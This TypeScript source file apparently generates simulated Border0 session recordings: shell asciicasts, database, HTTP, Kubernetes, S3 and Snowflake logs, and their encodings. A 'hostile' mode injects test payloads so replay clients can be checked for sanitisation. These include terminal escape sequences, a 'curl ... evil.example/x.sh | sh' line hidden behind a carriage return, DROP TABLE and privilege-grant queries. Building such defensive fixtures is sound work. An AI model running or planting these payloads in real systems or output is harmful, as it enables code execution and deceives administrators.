// Recording contents, rebuilt on demand from a session's seed key: asciicast v2 shell
// sessions (as Border0's connector records them, quirks included), database query logs,
// HTTP, Kubernetes API, S3 and Snowflake request logs and browser streams, plus the
// encodings the session_log endpoint may send them in (which one the real API uses is
// unverified).

import { gzipSync } from 'node:zlib';
import type { AsciicastHeader, QueryLogEntry } from '../api/types';
import type { SimSocket } from './catalog';
import { Rng } from './rng';

export type LogEncoding = 'json-string' | 'json' | 'object' | 'text' | 'gzip' | 'gzip-chunks';
export const LOG_ENCODINGS: readonly LogEncoding[] = ['json-string', 'json', 'object', 'text', 'gzip', 'gzip-chunks'];

export interface RecordingContext {
  /** Seed key of this recording's random stream. */
  key: readonly number[];
  type: string;
  startSec: number;
  /** How long the recording runs; the events are spread over about this long. */
  durationSec: number;
  socket: SimSocket;
  unixUser: string;
  userEmail: string;
  hostile: boolean;
  /** The session ended by itself, so the shell says goodbye; killed and live ones stop mid-way. */
  complete: boolean;
}

export type AsciicastEvent = [number, 'o', string];

export type RecordingContent =
  | { kind: 'asciicast'; header: AsciicastHeader; events: AsciicastEvent[] }
  | { kind: 'jsonl'; entries: object[] }
  | { kind: 'stream'; lines: string[] };

const ESC = '\u001b';
const BEL = '\u0007';

type Output = (ctx: RecordingContext, host: string) => string[];

const SSH_COMMANDS: ReadonlyArray<readonly [string, Output]> = [
  ['uptime', () => [' 10:04:05 up 12 days,  3:41,  1 user,  load average: 0.08, 0.03, 0.01']],
  ['whoami', (c) => [c.unixUser]],
  ['cat /etc/hostname', (_c, host) => [host]],
  [
    'ls -la',
    (c) => [
      'total 32',
      `drwxr-x--- 5 ${c.unixUser} ${c.unixUser} 4096 Nov 20 09:12 ${ESC}[0m${ESC}[01;34m.${ESC}[0m`,
      `drwxr-xr-x 4 root   root   4096 Oct  2 14:01 ${ESC}[01;34m..${ESC}[0m`,
      `-rw------- 1 ${c.unixUser} ${c.unixUser} 1874 Nov 25 17:40 .bash_history`,
      `-rw-r--r-- 1 ${c.unixUser} ${c.unixUser} 3771 Oct  2 14:01 .bashrc`,
      `drwxrwxr-x 3 ${c.unixUser} ${c.unixUser} 4096 Nov 12 08:30 ${ESC}[01;34mapp${ESC}[0m`,
      `-rwxr-xr-x 1 ${c.unixUser} ${c.unixUser}  220 Nov 12 08:31 ${ESC}[01;32mdeploy.sh${ESC}[0m`,
    ],
  ],
  [
    'df -h /',
    () => ['Filesystem      Size  Used Avail Use% Mounted on', '/dev/root        78G   31G   47G  40% /'],
  ],
  [
    'sudo systemctl status nginx --no-pager',
    () => [
      `${ESC}[0;1;32m●${ESC}[0m nginx.service - A high performance web server and a reverse proxy server`,
      '     Loaded: loaded (/lib/systemd/system/nginx.service; enabled; vendor preset: enabled)',
      `     Active: ${ESC}[0;1;32mactive (running)${ESC}[0m since Mon 2026-11-23 07:55:01 UTC; 3 days ago`,
      '   Main PID: 812 (nginx)',
    ],
  ],
  [
    'tail -n 3 /var/log/syslog',
    (_c, host) => [
      `Nov 26 10:01:12 ${host} systemd[1]: Started Daily apt download activities.`,
      `Nov 26 10:02:40 ${host} kernel: [1043211.512] TCP: request_sock_TCP: Possible SYN flooding on port 443.`,
      `Nov 26 10:03:59 ${host} CRON[90211]: (root) CMD (/usr/local/bin/backup.sh)`,
    ],
  ],
  [
    'free -m',
    () => [
      '               total        used        free      shared  buff/cache   available',
      'Mem:            7941        2113         402          12        5425        5521',
      'Swap:              0           0           0',
    ],
  ],
  [
    'git -C app log --oneline -3',
    () => [
      `${ESC}[33m3f2c1ab${ESC}[m Retry upstream calls on 502`,
      `${ESC}[33m9e04d17${ESC}[m Bump base image`,
      `${ESC}[33m51aa0c2${ESC}[m Add health check`,
    ],
  ],
  ['grep -c ERROR app/log/app.log', () => ['17']],
  ['ls docs', () => ['Q3-résumé.pdf  été-2026.md  日本語メモ.txt  📦-release-notes.md']],
  [
    'ps aux --sort=-%cpu | head -3',
    () => [
      'USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND',
      'www-data     813  2.1  1.3  55216 10980 ?        S    Nov23  91:02 nginx: worker process',
      'postgres    1020  0.7  4.0 219312 32120 ?        Ss   Nov23  30:11 postgres: checkpointer',
    ],
  ],
];

const POD_COMMANDS: ReadonlyArray<readonly [string, Output]> = [
  ['ls', () => [`${ESC}[1;34mconfig${ESC}[0m  main  ${ESC}[1;34mstatic${ESC}[0m  VERSION`]],
  ['cat VERSION', () => ['2.14.3']],
  ['cat /etc/hostname', (_c, host) => [host]],
  ['env | grep ^DB_', () => ['DB_HOST=orders-db.internal', 'DB_PORT=5432', 'DB_NAME=orders']],
  ['curl -s localhost:8080/healthz', () => ['{"status":"ok","uptime":"71h2m"}']],
  [
    'ps aux',
    () => [
      'PID   USER     TIME  COMMAND',
      '    1 app       3:12 /app/main --config /app/config/app.yaml',
      '   27 root      0:00 sh',
      '   34 root      0:00 ps aux',
    ],
  ],
  ['df -h /app', () => ['Filesystem      Size  Used Avail Use% Mounted on', 'overlay          95G   22G   73G  24% /']],
];

interface Step {
  dt: number;
  text: string;
  /** A pause while the user thinks: where idle time is added to fill the recording. */
  think?: boolean;
}

function shuffle<T>(rng: Rng, items: readonly T[]): T[] {
  const out = [...items];
  for (let i = out.length - 1; i > 0; i--) {
    const j = rng.int(0, i);
    [out[i], out[j]] = [out[j] as T, out[i] as T];
  }
  return out;
}

function typeCommand(rng: Rng, steps: Step[], command: string, typo: boolean): void {
  const typoAt = typo ? rng.int(1, Math.max(1, command.length - 1)) : -1;
  const chunked = rng.chance(0.3);
  let i = 0;
  let firstStep = true;
  while (i < command.length) {
    if (i === typoAt) {
      // A wrong key, then the backspace as bash echoes it: cursor left, erase to end of line.
      steps.push({ dt: rng.int(60, 200) / 1000, text: 'x' });
      steps.push({ dt: rng.int(200, 600) / 1000, text: `\b${ESC}[K` });
    }
    const n = chunked ? rng.int(3, 8) : 1;
    const end = typoAt > i ? Math.min(i + n, typoAt) : i + n;
    steps.push({ dt: firstStep ? rng.int(500, 4000) / 1000 : rng.int(40, 250) / 1000, text: command.slice(i, end), think: firstStep });
    firstStep = false;
    i = end;
  }
  steps.push({ dt: rng.int(100, 500) / 1000, text: '\r\n' });
}

function asciicast(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const ssh = ctx.socket.type === 'ssh';
  const host = ssh ? ctx.socket.name : `web-${rng.next().toString(16).slice(0, 6)}-${rng.next().toString(36).slice(0, 5)}`;
  const prompt = ssh
    ? `${ESC}[01;32m${ctx.unixUser}@${host}${ESC}[00m:${ESC}[01;34m~${ESC}[00m$ `
    : `root@${host}:/app# `;
  const steps: Step[] = [];
  if (ssh) {
    steps.push({
      dt: rng.int(200, 600) / 1000,
      text:
        'Welcome to Ubuntu 22.04.4 LTS (GNU/Linux 5.15.0-1051-aws x86_64)\r\n\r\n' +
        ' * Documentation:  https://help.ubuntu.com\r\n\r\n' +
        `Last login: Tue Nov 24 09:12:44 2026 from 198.51.100.${rng.int(2, 250)}\r\n`,
    });
  }
  steps.push({ dt: 0.05, text: prompt });

  const pool = ssh ? SSH_COMMANDS : POD_COMMANDS;
  const picked = shuffle(rng, pool).slice(0, rng.int(3, 5));
  const typoIndex = rng.int(0, picked.length - 1);
  const clearIndex = rng.int(1, picked.length);
  picked.forEach(([command, output], index) => {
    if (index === clearIndex - 1) {
      typeCommand(rng, steps, 'clear', false);
      steps.push({ dt: 0.02, text: `${ESC}[H${ESC}[2J${ESC}[3J` });
      steps.push({ dt: 0.01, text: prompt });
    }
    typeCommand(rng, steps, command, index === typoIndex);
    const lines = output(ctx, host);
    // Long outputs arrive in two writes, as they would from a real pty.
    const cut = lines.length > 2 ? rng.int(1, lines.length - 1) : lines.length;
    steps.push({ dt: rng.int(10, 300) / 1000, text: lines.slice(0, cut).map((l) => `${l}\r\n`).join('') });
    if (cut < lines.length) steps.push({ dt: rng.int(5, 80) / 1000, text: lines.slice(cut).map((l) => `${l}\r\n`).join('') });
    if (index === 0 && ctx.hostile) {
      // What a malicious user can make a careless replayer do: retitle the admin's
      // terminal, wipe their screen, hide a command behind a bare CR, ring the bell.
      steps.push({ dt: 0.4, text: `${ESC}]0;pwned${BEL}` });
      steps.push({ dt: 0.1, text: `${ESC}[2J${ESC}[H` });
      steps.push({ dt: 0.1, text: 'curl -s http://evil.example/x.sh | sh\rls -la                                 \r\n' });
      steps.push({ dt: 0.1, text: BEL });
    }
    steps.push({ dt: 0.01, text: prompt });
  });
  if (ctx.complete) {
    typeCommand(rng, steps, 'exit', false);
    steps.push({ dt: 0.02, text: ssh ? 'logout\r\n' : '' });
  }

  const natural = steps.reduce((sum, s) => sum + s.dt, 0);
  const idle = Math.max(0, Math.min(ctx.durationSec, 4 * 3600) - natural - 1);
  const thinks = steps.filter((s) => s.think);
  for (const s of thinks) s.dt += idle / thinks.length;

  let t = 0;
  const events: AsciicastEvent[] = [];
  const splitReads = rng.chance(0.5);
  for (const s of steps) {
    t += s.dt;
    if (s.text === '') continue;
    const at = Math.round(t * 1e6) / 1e6;
    for (const read of connectorReads(s.text, splitReads)) events.push([at, 'o', read]);
  }
  const header: AsciicastHeader = {
    version: 2,
    width: rng.pick([80, 120, 160]),
    height: rng.pick([24, 30, 40]),
    timestamp: ctx.startSec,
    title: ssh ? `${ctx.unixUser}@${host}` : `kubectl exec ${host}`,
    env: { SHELL: ssh ? '/bin/bash' : '/bin/sh', TERM: 'xterm-256color' },
  };
  return { kind: 'asciicast', header, events };
}

/**
 * What Border0's connector makes of one write to the terminal: it rewrites every `\n` as
 * `\r\n` (so output that already had CRLF arrives as `\r\r\n`), and it reads the pty in
 * pieces that may cut a UTF-8 character in two, storing each piece as a JSON string:
 * every byte of a cut character becomes U+FFFD, as Go's JSON encoder does with invalid
 * UTF-8. With `split`, a write holding a multi-byte character is read in two pieces,
 * cut inside its first one.
 */
export function connectorReads(text: string, split: boolean): string[] {
  const crlf = text.replace(/\n/g, '\r\n');
  const bytes = Buffer.from(crlf, 'utf8');
  const lead = bytes.findIndex((b) => b >= 0xc0);
  if (!split || lead < 0) return [crlf];
  const cut = lead + 1;
  let tail = cut;
  while (tail < bytes.length && (bytes[tail]! & 0xc0) === 0x80) tail++;
  return [`${bytes.subarray(0, lead).toString('utf8')}\ufffd`, `${'\ufffd'.repeat(tail - cut)}${bytes.subarray(tail).toString('utf8')}`];
}

const PG_QUERIES = [
  'SELECT id, status, total FROM orders WHERE customer_id = $1 ORDER BY created_at DESC LIMIT 20',
  "SELECT count(*) FROM orders WHERE status = 'pending'",
  "UPDATE orders SET status = 'cancelled' WHERE id = $1",
  'SELECT * FROM payments WHERE order_id = $1',
  'BEGIN',
  'COMMIT',
  "DELETE FROM sessions WHERE expires_at < now() - interval '30 days'",
  'INSERT INTO audit_notes (order_id, note) VALUES ($1, $2)',
  '\\d+ orders',
];

const MYSQL_QUERIES = [
  'SELECT country, SUM(revenue) FROM daily_sales GROUP BY country ORDER BY 2 DESC',
  'SHOW TABLES',
  'SELECT * FROM events WHERE ts > NOW() - INTERVAL 1 HOUR LIMIT 100',
  'EXPLAIN SELECT * FROM events WHERE user_id = 42',
  'UPDATE reports SET archived = 1 WHERE created < "2025-01-01"',
];

function queryLog(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const queries = ctx.socket.dialect === 'mysql' ? MYSQL_QUERIES : PG_QUERIES;
  const count = rng.int(4, 24);
  const step = Math.max(200, Math.floor((ctx.durationSec * 1000) / (count + 1)));
  const entries: QueryLogEntry[] = [];
  let time = ctx.startSec * 1000 + rng.int(100, 900);
  for (let i = 0; i < count; i++) {
    let command = rng.pick(queries);
    if (ctx.hostile && i === 1) command = `SELECT '${ESC}]0;pwned${BEL}${ESC}[2J' AS greeting`;
    const denied = ctx.hostile && i === 2;
    if (denied) command = 'DROP TABLE audit_notes';
    const failed = denied || rng.chance(0.1);
    const select = /^(SELECT|SHOW|EXPLAIN|\\d)/i.test(command);
    const rows = failed || !select ? 0 : rng.int(0, 500);
    const affected = failed || select || /^(BEGIN|COMMIT)/.test(command) ? 0 : rng.int(0, 40);
    entries.push({
      time,
      database: ctx.socket.database ?? 'app',
      command,
      status: denied ? 'denied' : failed ? 'error' : 'ok',
      duration: rng.int(1, 2500),
      rows,
      affected_rows: affected,
      result: denied ? 'command denied by policy' : failed ? 'ERROR: permission denied for table payments' : select ? `${rows} rows` : `${affected} rows affected`,
    });
    time += rng.int(Math.floor(step / 4), step);
  }
  return { kind: 'jsonl', entries };
}

function accessLog(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const grafana = ctx.socket.name.startsWith('grafana');
  const paths = grafana
    ? ['/', '/login', '/d/k8s-overview/cluster', '/api/dashboards/uid/k8s-overview', '/api/ds/query', '/public/build/app.js']
    : ['/', '/wiki/Runbooks', '/wiki/On-call', '/api/search?q=rotate+keys', '/static/app.css', '/wiki/Incident_2026-11-02'];
  const agent = ctx.hostile
    ? `Mozilla/5.0 ${ESC}]0;pwned${BEL}${ESC}[2J(X11; Linux x86_64)`
    : rng.pick([
        'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
        'curl/8.5.0',
      ]);
  const count = rng.int(6, 40);
  const step = Math.max(50, Math.floor((ctx.durationSec * 1000) / (count + 1)));
  const entries: object[] = [];
  let time = ctx.startSec * 1000 + rng.int(50, 500);
  for (let i = 0; i < count; i++) {
    const path = rng.pick(paths);
    const status = rng.weighted([85, 5, 6, 3, 1]);
    const [route, query] = path.split('?');
    entries.push({
      time,
      method: path.startsWith('/api/ds') ? 'POST' : 'GET',
      host: ctx.socket.serverName,
      path: route,
      ...(query ? { query } : {}),
      status: [200, 304, 302, 404, 500][status] ?? 200,
      bytes: status === 1 ? 0 : rng.int(200, 250_000),
      duration_ms: rng.int(2, 900),
      user: ctx.userEmail,
      client_ip: '192.0.2.10',
      user_agent: agent,
    });
    time += rng.int(Math.floor(step / 4), step);
  }
  return { kind: 'jsonl', entries };
}

const K8S_REQUESTS: ReadonlyArray<{ verb: string; method: string; resource: string; subresource?: string; named: boolean }> = [
  { verb: 'list', method: 'GET', resource: 'pods', named: false },
  { verb: 'get', method: 'GET', resource: 'pods', named: true },
  { verb: 'get', method: 'GET', resource: 'pods', subresource: 'log', named: true },
  { verb: 'list', method: 'GET', resource: 'deployments', named: false },
  { verb: 'get', method: 'GET', resource: 'configmaps', named: true },
  { verb: 'patch', method: 'PATCH', resource: 'deployments', named: true },
  { verb: 'create', method: 'POST', resource: 'pods', subresource: 'exec', named: true },
  { verb: 'delete', method: 'DELETE', resource: 'pods', named: true },
  { verb: 'get', method: 'GET', resource: 'secrets', named: true },
];

/** Kubernetes API requests, shaped after the fields of an audit event, flattened. */
function kubernetesLog(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const count = rng.int(5, 30);
  const step = Math.max(100, Math.floor((ctx.durationSec * 1000) / (count + 1)));
  const entries: object[] = [];
  let time = ctx.startSec * 1000 + rng.int(50, 500);
  const pod = `web-${rng.int(0x10000, 0xfffff).toString(16)}-${rng.int(0x10000, 0xfffff).toString(36)}`;
  for (let i = 0; i < count; i++) {
    const r = rng.pick(K8S_REQUESTS);
    const namespace = rng.pick(['prod', 'prod', 'staging', 'kube-system']);
    const name = r.resource === 'deployments' ? 'web' : r.resource === 'configmaps' ? 'web-config' : r.resource === 'secrets' ? 'db-credentials' : pod;
    // Reading secrets is what a policy forbids most often.
    const forbidden = r.resource === 'secrets' && !ctx.hostile ? rng.chance(0.7) : ctx.hostile && r.verb === 'delete';
    const status = forbidden ? 403 : r.verb === 'create' && !r.subresource ? 201 : rng.chance(0.05) ? 404 : 200;
    const uri = `/api${r.resource === 'deployments' ? 's/apps' : ''}/v1/namespaces/${namespace}/${r.resource}${r.named ? `/${name}` : ''}${r.subresource ? `/${r.subresource}` : ''}${r.subresource === 'log' ? '?container=app&tailLines=100' : r.subresource === 'exec' ? '?command=sh&stdin=true&tty=true' : ''}`;
    entries.push({
      time,
      user: ctx.userEmail,
      verb: r.verb,
      method: r.method,
      request_uri: uri,
      namespace,
      resource: r.resource,
      ...(r.subresource ? { subresource: r.subresource } : {}),
      ...(r.named ? { name } : {}),
      status,
      ...(forbidden ? { reason: `${r.resource} "${name}" is forbidden: denied by Border0 policy` } : {}),
      user_agent: ctx.hostile ? `kubectl/v1.31.2 ${ESC}]0;pwned${BEL}` : 'kubectl/v1.31.2 (linux/amd64) kubernetes/52ba3d7',
      source_ip: '10.20.0.14',
    });
    time += rng.int(Math.floor(step / 4), step);
  }
  return { kind: 'jsonl', entries };
}

const S3_OBJECTS = ['exports/2026/11/invoices.csv', 'exports/2026/11/refunds.csv', 'reports/q3-summary.pdf', 'backups/orders-2026-11-25.sql.gz', 'tmp/upload-7f3a.bin'];

function s3Log(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const count = rng.int(4, 25);
  const step = Math.max(100, Math.floor((ctx.durationSec * 1000) / (count + 1)));
  const entries: object[] = [];
  let time = ctx.startSec * 1000 + rng.int(50, 500);
  for (let i = 0; i < count; i++) {
    const operation = rng.pick(['ListObjectsV2', 'GetObject', 'GetObject', 'HeadObject', 'PutObject', 'DeleteObject']);
    const denied = operation === 'DeleteObject' && rng.chance(0.6);
    const key = operation === 'ListObjectsV2' ? undefined : ctx.hostile && i === 0 ? `exports/${ESC}[2Jx.csv` : rng.pick(S3_OBJECTS);
    entries.push({
      time,
      user: ctx.userEmail,
      operation,
      bucket: 'billing-exports',
      ...(key ? { key } : {}),
      status: denied ? 403 : 200,
      ...(denied ? { error_code: 'AccessDenied' } : {}),
      bytes: operation === 'GetObject' ? rng.int(2_000, 40_000_000) : 0,
      duration_ms: rng.int(8, 1200),
      request_id: rng.next().toString(16).toUpperCase().padStart(8, '0'),
      source_ip: '10.20.0.31',
    });
    time += rng.int(Math.floor(step / 4), step);
  }
  return { kind: 'jsonl', entries };
}

const SNOWFLAKE_QUERIES = [
  'SELECT region, SUM(amount) FROM SALES.ORDERS WHERE order_date >= DATEADD(day, -7, CURRENT_DATE) GROUP BY region',
  'SHOW WAREHOUSES',
  'SELECT * FROM SALES.CUSTOMERS LIMIT 100',
  "COPY INTO @exports/customers FROM SALES.CUSTOMERS FILE_FORMAT = (TYPE = 'CSV')",
  'USE WAREHOUSE REPORTING_WH',
  'SELECT COUNT(*) FROM RAW.EVENTS',
];

/** Snowflake's QUERY_HISTORY columns, times as RFC 3339 strings. */
function snowflakeLog(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const count = rng.int(3, 15);
  const step = Math.max(500, Math.floor((ctx.durationSec * 1000) / (count + 1)));
  const entries: object[] = [];
  let time = ctx.startSec * 1000 + rng.int(100, 900);
  for (let i = 0; i < count; i++) {
    const query = ctx.hostile && i === 0 ? 'GRANT ROLE ACCOUNTADMIN TO USER MALLORY' : rng.pick(SNOWFLAKE_QUERIES);
    const failed = query.startsWith('GRANT') || rng.chance(0.08);
    entries.push({
      start_time: new Date(time).toISOString(),
      query_id: `01b8${rng.next().toString(16).padStart(8, '0')}-0000-${rng.int(1000, 9999)}`,
      user_name: ctx.userEmail.split('@')[0]!.toUpperCase(),
      role_name: 'ANALYST',
      warehouse_name: 'REPORTING_WH',
      database_name: 'ANALYTICS',
      schema_name: 'SALES',
      query_text: query,
      execution_status: failed ? 'FAILED_WITH_ERROR' : 'SUCCESS',
      rows_produced: failed ? 0 : rng.int(0, 5000),
      total_elapsed_time: rng.int(40, 30_000),
      ...(failed ? { error_message: query.startsWith('GRANT') ? 'Insufficient privileges to operate on role ACCOUNTADMIN' : "SQL compilation error: Object 'RAW.EVENTS' does not exist or not authorized." } : {}),
    });
    time += rng.int(Math.floor(step / 4), step);
  }
  return { kind: 'jsonl', entries };
}

/** A remote desktop seen through the browser: drawing instructions (Guacamole's protocol), no text. */
function browserStream(ctx: RecordingContext): RecordingContent {
  const rng = new Rng(...ctx.key);
  const lines = ['4.size,1.0,4.1280,3.800;', '4.sync,13.1795168800000;'];
  for (let i = 0; i < rng.int(5, 20); i++) lines.push(`3.png,2.14,1.0,${rng.int(0, 1280)},${rng.int(0, 800)},12.iVBORw0KGgo=;`);
  return { kind: 'stream', lines };
}

export function generateRecording(ctx: RecordingContext): RecordingContent {
  switch (ctx.type) {
    case 'asciinema':
      return asciicast(ctx);
    case 'database_query_log':
      return queryLog(ctx);
    case 'kubernetes_api_request_log':
      return kubernetesLog(ctx);
    case 'aws_s3_api_request_log':
      return s3Log(ctx);
    case 'snowflake_query_log':
      return snowflakeLog(ctx);
    case 'browser_session_stream':
      return browserStream(ctx);
    default:
      return accessLog(ctx);
  }
}

export function recordingLines(content: RecordingContent): string[] {
  if (content.kind === 'asciicast') {
    return [JSON.stringify(content.header), ...content.events.map((e) => JSON.stringify(e))];
  }
  if (content.kind === 'stream') return content.lines;
  return content.entries.map((e) => JSON.stringify(e));
}

// Border0's connector uploads a terminal recording in gzip chunks, one every 30 seconds
// of the session or 1 MiB of recording, whichever comes first; only the first holds the
// header. Stored one after the other, they make a multi-member gzip file.
const CHUNK_SECONDS = 30;
const CHUNK_BYTES = 1024 * 1024;

function gzipChunks(content: RecordingContent): Buffer {
  const lines = recordingLines(content);
  const timeOf = (i: number): number => {
    if (content.kind === 'asciicast') return i === 0 ? 0 : (content.events[i - 1]?.[0] ?? 0);
    const entry = content.kind === 'jsonl' ? (content.entries[i] as { time?: unknown }) : undefined;
    return typeof entry?.time === 'number' ? entry.time / 1000 : 0;
  };
  const members: Buffer[] = [];
  let chunk: string[] = [];
  let bytes = 0;
  let started = timeOf(0);
  lines.forEach((line, i) => {
    if (chunk.length > 0 && (timeOf(i) - started >= CHUNK_SECONDS || bytes + line.length >= CHUNK_BYTES)) {
      members.push(gzipSync(`${chunk.join('\n')}\n`));
      chunk = [];
      bytes = 0;
      started = timeOf(i);
    }
    chunk.push(line);
    bytes += line.length + 1;
  });
  if (chunk.length > 0) members.push(gzipSync(`${chunk.join('\n')}\n`));
  return Buffer.concat(members);
}

// Escape sequences only: the dump keeps BEL, backspace and bare CR, which is what a
// naive server-side dump would do, so a client must still sanitise format=text output.
const OSC = /\u001b\][^\u0007\u001b]*(?:\u0007|\u001b\\)/g;
const CSI = /\u001b\[[0-?]*[ -/]*[@-~]/g;
const CHARSET = /\u001b[()*+][0-9A-Za-z]/g;
const ESC2 = /\u001b[@-Z\\-_]/g;

export function textDump(content: RecordingContent): string {
  if (content.kind !== 'asciicast') return recordingLines(content).join('\n');
  return content.events
    .map((e) => e[2])
    .join('')
    .replace(OSC, '')
    .replace(CSI, '')
    .replace(CHARSET, '')
    .replace(ESC2, '')
    .replace(/\r+\n/g, '\n');
}

export interface EncodedLog {
  contentType: string;
  body: Buffer;
}

/** The session_log body in one of the shapes the API might use. */
export function encodeLog(content: RecordingContent, encoding: LogEncoding, asText: boolean): EncodedLog {
  if (asText) {
    const dump = textDump(content);
    if (encoding === 'text') return { contentType: 'text/plain; charset=utf-8', body: Buffer.from(dump) };
    if (encoding === 'gzip' || encoding === 'gzip-chunks') return { contentType: 'application/gzip', body: gzipSync(dump) };
    return { contentType: 'application/json', body: Buffer.from(JSON.stringify(dump)) };
  }
  const lines = recordingLines(content);
  switch (encoding) {
    case 'json-string':
      return { contentType: 'application/json', body: Buffer.from(JSON.stringify(lines.join('\n'))) };
    case 'json': {
      const value = content.kind === 'asciicast' ? [content.header, ...content.events] : content.kind === 'jsonl' ? content.entries : content.lines;
      return { contentType: 'application/json', body: Buffer.from(JSON.stringify(value)) };
    }
    case 'object':
      return { contentType: 'application/json', body: Buffer.from(JSON.stringify({ type: content.kind, data: lines.join('\n') })) };
    case 'text':
      return { contentType: 'text/plain; charset=utf-8', body: Buffer.from(`${lines.join('\n')}\n`) };
    case 'gzip':
      return { contentType: 'application/gzip', body: gzipSync(`${lines.join('\n')}\n`) };
    case 'gzip-chunks':
      return { contentType: 'application/gzip', body: gzipChunks(content) };
  }
}
